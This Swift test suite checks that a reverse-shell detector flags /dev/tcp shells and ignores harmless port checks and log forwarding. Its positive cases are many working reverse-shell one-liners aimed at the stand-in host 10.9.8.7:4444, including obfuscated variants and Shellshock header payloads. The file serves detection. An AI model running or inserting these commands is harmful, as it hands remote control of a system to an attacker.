import Bytes
import Testing

@testable import Detectors

private func shells(_ text: String) -> [TextDetection] { text.withView { ReverseShellDetector().scan($0, .command) } }

/// What makes a shell of a device, and where its far end is named.
@Suite struct DevTCPMatcherTests {
  @Test(arguments: [
    // What comes in is the command.
    "bash -c \"$(</dev/tcp/10.9.8.7/4444)\"", "eval \"$(</dev/tcp/10.9.8.7/4444)\"",
    "eval $(cat /dev/tcp/10.9.8.7/4444)",
    "bash -c \"$(cat /dev/tcp/10.9.8.7/4444)\"", "bash -c \"`cat /dev/tcp/10.9.8.7/4444`\"",
    "source /dev/tcp/10.9.8.7/4444", ". /dev/tcp/10.9.8.7/4444",
    "while read -r c; do sh -c \"$c\"; done </dev/tcp/10.9.8.7/4444 >&0",
    // A shell reads from there.
    "script -qc /bin/bash /dev/null </dev/tcp/10.9.8.7/4444 >&0 2>&0",
    "bash --rcfile x -i >& /dev/tcp/10.9.8.7/4444 0>&1", "sh 0>/dev/tcp/10.9.8.7/4444 1>&0 2>&0",
    // The far end is given to the shell, or written in quotes.
    "set -- 10.9.8.7 4444; bash -i >& /dev/tcp/$1/$2 0>&1", "bash -c \"bash -i >& /dev/tcp/$0/$1 0>&1\" 10.9.8.7 4444",
    "bash -c 'bash -i >& /dev/tcp/$1/$2 0>&1' _ 10.9.8.7 4444",
    "read H P <<< \"10.9.8.7 4444\"; bash -i >& /dev/tcp/$H/$P 0>&1",
    "for i in 10.9.8.7; do bash -i >& /dev/tcp/$i/4444 0>&1; done",
    "C2=10.9.8.7:4444; bash -i >& /dev/tcp/${C2%:*}/${C2#*:} 0>&1",
    "exec {fd}<>/dev/tcp/10.9.8.7/4444; sh -i <&${fd} >&${fd} 2>&${fd}",
    "exec >/dev/tcp/10.9.8.7/4444 0<&1 2>&1; exec bash -i",
    "exec 3<>/dev/tcp/10.9.8.7/4444; while read -r c <&3; do\n  \"$c\" >&3\ndone",
    // What a request came in with asks for no page.
    "9.9.9.9 - - [3/Nov/2022:10:10:01 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"() { :;}; exec 5<>/dev/tcp/10.9.8.7/4444;cat <&5 | while read c; do $c >&5; done\"",
    "GET / HTTP/1.1\r\nCookie: () { :;}; exec 5<>/dev/tcp/10.9.8.7/4444;cat <&5 | while read c; do $c >&5; done",
    // Lists, functions and what is read with a sign between.
    "a=(10.9.8.7 4444); bash -i >& /dev/tcp/${a[0]}/${a[1]} 0>&1",
    "declare -a c=(\"10.9.8.7\" \"4444\"); bash -i >& \"/dev/tcp/${c[0]}/${c[1]}\" 0>&1",
    "declare -A c=([h]=10.9.8.7 [p]=\"4444\"); bash -i >& /dev/tcp/${c[h]}/${c[p]} 0>&1",
    "rs() { bash -i >& /dev/tcp/$1/$2 0>&1; }; rs 10.9.8.7 4444",
    "function rs { exec 5<>/dev/tcp/$1/$2; sh <&5 >&5 2>&5; }\nrs 10.9.8.7 4444",
    "f(){ local h=$1 p=\"$2\"; bash -i >& /dev/tcp/$h/$p 0>&1;};f 10.9.8.7 4444",
    "*/5 * * * * root rs() { bash -i >& /dev/tcp/$1/$2 0>&1; }; rs 10.9.8.7 4444",
    "IFS=: read H P <<< \"10.9.8.7:4444\"; bash -i >& /dev/tcp/$H/$P 0>&1",
    "bash -i >& $(printf \"/dev/tcp/%s/%d\" 10.9.8.7 4444) 0>&1", "bash -i >& $'/dev/tcp/10.9.8.7/4444' 0>&1",
    // Its output alone, and input that another feeds it.
    "bash -i |& cat > /dev/tcp/10.9.8.7/4444", "bash -i 2>&1 | tee /dev/tcp/10.9.8.7/4444",
    "coproc bash; exec 3<>/dev/tcp/10.9.8.7/4444; cat <&3 >&${COPROC[1]} & cat <&${COPROC[0]} >&3",
    "s=/dev/tcp/10.9.8.7/4444; exec {fd}<>\"$s\"; bash -i <&$fd >&$fd 2>&$fd",
    "x=$(cat </dev/tcp/10.9.8.7/4444); eval $x", "x=\"$(cat </dev/tcp/10.9.8.7/4444)\"; bash -c \"$x\"",
    // Within another string.
    "{\"cmdline\":\"bash -i >& \\\"/dev/tcp/10.9.8.7/4444\\\" 0>&1\"}",
    "sh -c \"a=(10.9.8.7 4444); bash -i >& /dev/tcp/\\${a[0]}/\\${a[1]} 0>&1\"",
    "{\"cmdline\":\"bash -c 'bash -i >& /dev/tcp/$0/$1 0>&1' 10.9.8.7 4444\"}",
    "H=10.9.8.7; P=4444; bash -i >& /dev/tcp/\"$H\"/\"$P\" 0>&1", "bash -i >& /dev/tcp/'10.9.8.7'/'4444' 0>&1",
  ])
  func aDeviceFeedsAShell(text: String) {
    #expect(shells(text).first?.technique == "dev_tcp")
    #expect(shells(text).first?.host == "10.9.8.7")
    #expect(shells(text).first?.port == 4444)
  }

  @Test(arguments: [
    "timeout 1 bash -c '</dev/tcp/10.0.0.5/22' && echo open",
    "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/10.0.0.5/22'",
    "t=$(cat </dev/tcp/10.0.0.5/13); bash -c \"echo $t\"", "echo \"$(</dev/tcp/10.0.0.5/13)\"",
    "while read l; do echo \"$l\"; done </dev/tcp/10.0.0.5/13",
    "while read l; do $l; done <cmds >/dev/tcp/10.0.0.5/514",
    "exec 3<>/dev/tcp/10.0.0.5/80; echo \"GET $d HTTP/1.0\" >&3; while read l; do $l; done <&3",
    "exec >/dev/tcp/10.0.0.5/514 2>&1; exec bash -i",
    "exec 3<>/dev/tcp/10.0.0.5/80; IFS= read -r l <&3; set -- $l; printf '%s\\n' \"$2\"",
    "exec 3<>/dev/tcp/$HOST/$PORT; echo PING >&3; read -t 1 r <&3; [ \"$r\" = PONG ] && echo ok; eval \"$NEXT\"",
    "f\"exec 3<>/dev/tcp/10.0.0.5/80; printf '{q}' >&3; IFS= read -r l <&3; set -- $l; printf '%s' \\\"$2\\\"\"; return \"bash -c \" + quote(s)",
    "zsh -c 'zmodload zsh/net/tcp; ztcp 10.0.0.5 22 && ztcp -c'; cat <&5",
    "bash --rcfile x run.sh >& /dev/tcp/10.0.0.5/514", "sh run.sh 0>/dev/null >/dev/tcp/10.0.0.5/514",
    "source /dev/stdin", "the words '/dev/tcp/'+host and \"/dev/tcp/\" in bash -i",
    "script -qc 'make' /dev/null >/dev/tcp/10.0.0.5/514",
  ])
  func aCheckIsNoShell(text: String) { #expect(shells(text).isEmpty) }

  /// Checks, logs and banners by the same means.
  @Test(arguments: [
    "a=(10.9.8.7 22); timeout 1 bash -c \"</dev/tcp/${a[0]}/${a[1]}\" && echo up",
    "check() { timeout 1 bash -c \"cat < /dev/null > /dev/tcp/$1/$2\"; }; check 10.9.8.7 5432",
    "wait_for() { until (exec 3<>/dev/tcp/$1/$2) 2>/dev/null; do sleep 1; done; }; wait_for redis 6379; exec bash -i",
    "bash build.sh |& cat > /dev/tcp/10.9.8.7/5140", "./run.sh 2>&1 | tee /dev/tcp/10.9.8.7/5140",
    "bash -i build.sh 2>&1 | tee /dev/tcp/10.9.8.7/5140", "journalctl -f | cat > /dev/tcp/10.9.8.7/5140",
    "x=$(cat </dev/tcp/10.9.8.7/22); echo $x; eval \"$(ssh-agent)\"",
    "coproc nc localhost 25; exec 3<>/dev/tcp/10.9.8.7/25; cat <&3 >&${COPROC[1]}",
    "log() { echo \"$1\" > \"/dev/tcp/10.9.8.7/5140\"; }; log \"bash -i started\"",
  ])
  func aDeviceThatFeedsNone(text: String) { #expect(shells(text).isEmpty, "\(shells(text).first?.message ?? "")") }
}
